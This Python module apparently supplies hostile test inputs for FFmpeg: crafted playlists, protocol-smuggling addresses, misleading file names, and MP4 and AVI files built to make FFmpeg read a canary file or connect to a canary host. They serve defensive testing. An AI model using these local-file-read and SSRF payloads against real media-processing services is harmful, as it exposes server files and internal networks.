"""Inputs that try to have another file read, or another host spoken to: each a name and what a user would be given.

`{file}` stands for the canary's path, `{at}` for the canary's host and port, `{host}` and `{port}` for each alone.
"""

from __future__ import annotations

import struct
from collections.abc import Callable, Iterator
from pathlib import Path

HLS = "#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-TARGETDURATION:9\n{lines}\n#EXTINF:1,\n{uri}\n#EXT-X-ENDLIST\n"
SDP = (
    "v=0\r\no=- 1 1 IN IP4 {host}\r\ns=x\r\nc=IN IP4 {host}\r\nt=0 0\r\nm=video {port} RTP/AVP 96\r\n"
    "a=rtpmap:96 H264/90000\r\na=control:rtsp://{at}/x\r\n"
)
MPD = (
    '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT1S">'
    '<Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1" width="320" height="240">'
    "<BaseURL>{uri}</BaseURL></Representation></AdaptationSet></Period></MPD>"
)


def hls(uri: str, lines: str = "") -> str:
    """A playlist of one piece."""
    return HLS.replace("{uri}", uri).replace("{lines}", lines)


def concat(uri: str) -> str:
    """FFmpeg's own list of files."""
    return f"ffconcat version 1.0\nfile '{uri}'\n"


def mpd(uri: str) -> str:
    """A DASH description."""
    return MPD.replace("{uri}", uri)


# Files by their names, and what stands in them.
LISTS: dict[str, str] = {
    "list.m3u8": hls("{file}"),
    "list.mp4": hls("{file}"),
    "list.ts": hls("file://{file}"),
    "list.avi": hls("http://{at}/a.ts"),
    "key.m3u8": hls("{file}", '#EXT-X-KEY:METHOD=AES-128,URI="{file}"'),
    "map.m3u8": hls("{file}", '#EXT-X-MAP:URI="http://{at}/init.mp4"'),
    "concat-in-hls.mkv": hls("concat:{file}|{file}"),
    "master.m3u8": "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhttp://{at}/low.m3u8\n",
    "list.ffconcat": concat("{file}"),
    "ffconcat.mp4": concat("{file}"),
    "ffconcat.mkv": concat("http://{at}/a.mp4"),
    "ffconcat.jpg": concat("subfile,,start,0,end,0,,:{file}"),
    "stream.sdp": SDP,
    "sdp.mp4": SDP,
    "dash.mpd": mpd("{file}"),
    "dash.mp4": mpd("http://{at}/a.mp4"),
    "list.smil": '<smil><body><video src="http://{at}/a.mp4"/><video src="{file}"/></body></smil>',
    "list.asx": '<asx version="3.0"><entry><ref href="http://{at}/a.asf"/></entry></asx>',
    "reference.asf": "[Reference]\r\nRef1=http://{at}/a.asf\r\nRef2={file}\r\n",
    "list.ram": "rtsp://{at}/a.rm\n{file}\n",
    "list.pls": "[playlist]\nFile1=http://{at}/a\nFile2={file}\nNumberOfEntries=2\n",
    "list.xspf": "<playlist><trackList><track><location>file://{file}</location></track></trackList></playlist>",
    "rtsptext.mov": "rtsptext\r\nrtsp://{at}/a\r\n",
    "smooth.ismc": '<SmoothStreamingMedia><StreamIndex Url="http://{at}/Q({bitrate})"/></SmoothStreamingMedia>',
    "imf-cpl.xml": '<CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Id>{file}</Id>'
    "</CompositionPlaylist>",
    "vobsub.idx": "# VobSub index file, v7\nid: en, index: 0\ntimestamp: 00:00:00:000, filepos: 000000000\n",
}

# What is written where an address stands.
ADDRESSES: tuple[str, ...] = (
    "concat:{file}|{file}",
    "concatf:{file}",
    "subfile,,start,0,end,0,,:{file}",
    "crypto:{file}",
    "crypto+file:{file}",
    "data:application/x-mpegurl,%23EXTM3U%0A{file}",
    "async:{file}",
    "async:file:{file}",
    "cache:{file}",
    "tee:{file}",
    "pipe:0",
    "pipe:",
    "fd:",
    "fd:0",
    "gopher://{at}/",
    "gophers://{at}/",
    "ftp://{at}/a.mp4",
    "sftp://{at}/a.mp4",
    "unix:{file}",
    "mmsh://{at}/a",
    "mmst://{at}/a",
    "rtmp://{at}/a",
    "rtp://{at}",
    "udp://{at}",
    "tcp://{at}",
    "tls://{at}",
    "httpproxy://{at}",
    "srt://{at}",
    "sdp://{at}/a.sdp",
    "sdp:{file}",
    "ipfs://{at}",
    "rtsp+tcp://{at}/a",
    "file,http://{at}/a",
    "http+unix://{at}/a",
    "bluray:{file}",
    "lavfi:movie={file}",
    "file:concat:{file}|{file}",
    "file:http://{at}/a.mp4",
    "file:subfile,,start,0,end,0,,:{file}",
    "file:pipe:0",
    "file:///concat:{file}",
    "FILE:crypto:{file}",
    "{folder}/canary-*.mp4",
    "{folder}/canary-%d.mp4",
    "{folder}/%*.mp4",
    "http:{file}",
    "rtsp:{file}",
    "http://127.0.0.1:1/@{at}/a",
)

# Names of files that exist, and which FFmpeg would read as protocols; the files are nothing that can be read as video.
NAMES: tuple[str, ...] = (
    "concat:{name}|{name}",
    "subfile,,start,0,end,0,,:{name}",
    "crypto:{name}",
    "async:{name}",
    "http:/{at}/a.mp4",
    "tcp:/{at}",
    "data:,{name}",
)


def without_own_video(recording: bytes, reference: bytes) -> bytes:
    """An MP4 whose media is said to be in another file: its `dref` has `reference` for an entry."""
    kind = b"dref" + struct.pack(">II", 0, 1)
    return b"".join(_boxes(recording, lambda name, body: (kind + reference) if name == b"dref" else None))


def _boxes(data: bytes, other: Callable[[bytes, bytes], bytes | None]) -> Iterator[bytes]:
    """The boxes, those within the ones that lead to `dref` as well, and what `other` puts in their place."""
    at = 0
    while at < len(data):
        size, name = struct.unpack_from(">I4s", data, at)
        body = data[at + 8 : at + size]
        if name in (b"moov", b"trak", b"mdia", b"minf", b"dinf"):
            body = b"".join(_boxes(body, other))
        changed = other(name, body)
        inner = name + body if changed is None else changed
        yield struct.pack(">I", 4 + len(inner)) + inner
        at += size


def alias(path: Path) -> bytes:
    """A `dref` entry of QuickTime: a Macintosh alias, with the path twice, as it is and from the volume on."""
    name = path.name.encode()[:63]
    whole = str(path).encode()
    head = bytes(10) + bytes([1]) + b"V".ljust(27, b"\0") + bytes(12) + bytes([len(name)]) + name.ljust(63, b"\0")
    head += bytes(16) + struct.pack(">HH", 1, 1) + bytes(16)
    for kind, text in ((2, b"V:" + whole.replace(b"/", b":")), (18, whole), (0, str(path.parent).encode())):
        head += struct.pack(">HH", kind, len(text)) + text + b"\0" * (len(text) & 1)
    body = b"alis" + bytes(4) + head + struct.pack(">HH", 0xFFFF, 0) + bytes(64)
    return struct.pack(">I", 4 + len(body)) + body


def location(url: str) -> bytes:
    """A `dref` entry that is an address."""
    body = b"url " + bytes(4) + url.encode() + b"\0"
    return struct.pack(">I", 4 + len(body)) + body


def avi_with_list(playlist: str) -> bytes:
    """An AVI of one subtitle stream, whose first packet is a playlist in the wrapper for subtitles (GAB2)."""
    text = playlist.encode()
    packet = b"GAB2\0" + struct.pack("<HI", 2, 4) + b"x\0\0\0" + struct.pack("<HI", 4, len(text)) + text
    packet += b"\0" * (len(packet) & 1)
    avih = struct.pack("<14I", 40000, 0, 0, 0x10, 1, 0, 1, 0, 320, 240, 0, 0, 0, 0)
    strh = b"txts" + bytes(16) + struct.pack("<7I", 1, 25, 0, 1, 0, 0, 0) + bytes(8)
    streams = _list(b"strl", _chunk(b"strh", strh) + _chunk(b"strf", bytes(4)))
    header = _list(b"hdrl", _chunk(b"avih", avih) + streams)
    return _chunk(b"RIFF", b"AVI " + header + _list(b"movi", _chunk(b"00tx", packet)))


def _chunk(name: bytes, body: bytes) -> bytes:
    return name + struct.pack("<I", len(body)) + body


def _list(name: bytes, body: bytes) -> bytes:
    return _chunk(b"LIST", name + body)
